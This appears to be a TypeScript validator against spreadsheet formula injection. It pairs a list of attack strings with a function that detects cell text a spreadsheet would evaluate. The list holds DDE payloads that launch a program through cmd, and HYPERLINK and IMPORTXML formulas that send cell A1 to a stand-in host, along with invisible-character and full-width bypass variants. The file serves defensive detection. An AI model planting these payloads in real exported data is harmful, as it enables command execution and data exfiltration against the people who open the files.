/** Texts by which people had spreadsheets run something. */
export const attacks = [
	'=1+1',
	"=cmd|' /C calc'!A0",
	'=HYPERLINK("https://voorbeeld.nl/?"&A1,"klik")',
	'=IMPORTXML(CONCAT("https://voorbeeld.nl/",A1),"//a")',
	'+1+cmd|"/c calc"!A0',
	'-2+3+cmd|"/c calc"!A0',
	'@SUM(1+9)*cmd|"/c calc"!A0',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	' =1+1',
	'\u00a0=1+1',
	'\u200b=1+1',
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM(1)',
	'";=1+1',
	'"=1+1"',
	"'=1+1",
	';=1+1',
	',=1+1',
	'a";"=1+1',
	'%0A=1+1'
] as const;

/**
 * Tells whether a spreadsheet could run a text, as strictly as any does: some look past blanks, controls
 * and marks that nobody sees, and some take signs of full width for the sign.
 */
export function runs(text: string): boolean {
	const seen = text.normalize('NFKC').replace(/^[\s\p{C}]+/u, '');
	const isNumber = /^[+-]?\d+([.,]\d+)?$/.test(seen);
	return /^[=+\-@]/.test(seen) && !isNumber;
}
